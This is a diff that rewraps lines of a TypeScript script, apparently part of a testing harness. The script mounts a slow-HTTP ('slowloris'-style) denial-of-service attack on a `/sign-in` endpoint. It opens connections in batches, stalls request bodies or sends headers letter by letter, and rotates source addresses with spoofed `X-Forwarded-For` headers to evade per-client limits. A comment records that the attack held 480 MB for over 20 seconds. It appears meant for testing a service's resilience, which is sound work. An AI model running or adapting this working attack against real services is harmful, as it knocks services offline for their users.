@@ -1,5 +1,6 @@
-// Requests that never end: 2,000 unfinished bodies at /sign-in held 480 MB for more than 20 s, since no
-// time-outs were set. Straight from a stranger's address, without a proxy, where the service sees the connections themselves.
+// Requests that never end: 2,000 unfinished bodies at /sign-in held 480 MB for more than 20 s,
+// since no time-outs were set. Straight from a stranger's address, without a proxy, where the
+// service sees the connections themselves.
 import { connect, type Socket } from 'node:net';
 import { once } from 'node:events';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -7,7 +8,10 @@ import { attack, type Target } from './attack.ts';
 
 interface Args extends Target {
   readonly connections: number;
-  /** Addresses of this machine that they come from, by turns; for one of them, the proxy's own, a header tells each apart. */
+  /**
+   * Addresses of this machine that they come from, by turns; for one of them, the proxy's own, a
+   * header tells each apart.
+   */
   readonly peers: readonly string[];
   readonly proxy: string;
   /** How long it waits to be closed by the service. */
@@ -22,7 +26,10 @@ const LETTER_MS = 1000;
 await attack<Args>(async ({ url, connections, peers, proxy, patienceSeconds }, run) => {
   const { port, hostname: host } = new URL(url);
   const open = new Set<Socket>();
-  for (let n = 0; n < connections && !run.isOver(); n += AT_ONCE) await Promise.all(Array.from({ length: Math.min(AT_ONCE, connections - n) }, (_, k) => begin(n + k)));
+  for (let n = 0; n < connections && !run.isOver(); n += AT_ONCE)
+    await Promise.all(
+      Array.from({ length: Math.min(AT_ONCE, connections - n) }, (_, k) => begin(n + k)),
+    );
   run.begun();
   const until = performance.now() + patienceSeconds * 1000;
   while (open.size > 0 && performance.now() < until && !run.isOver()) await sleep(200);
@@ -35,18 +42,23 @@ await attack<Args>(async ({ url, connections, peers, proxy, patienceSeconds }, r
     open.add(socket);
     socket.on('error', () => {});
     socket.once('close', () => void open.delete(socket));
-    socket.on('data', (data: Buffer) => run.tally(`answers ${/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'more'}`));
+    socket.on('data', (data: Buffer) =>
+      run.tally(`answers ${/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'more'}`),
+    );
     try {
       await once(socket, 'connect');
     } catch {
       return run.tally('connections refused');
     }
     run.tally('connections');
-    const forwarded = localAddress === proxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
+    const forwarded =
+      localAddress === proxy ? `X-Forwarded-For: 10.9.${n >> 8}.${n & 255}\r\n` : '';
     const head = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\n${forwarded}`;
     // Of each peer's, some stop within the body, the others' headers come letter by letter.
     if (Math.floor(n / peers.length) % 3 !== 0) {
-      socket.write(`${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
+      socket.write(
+        `${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
+      );
       socket.write(BODY);
       return;
     }
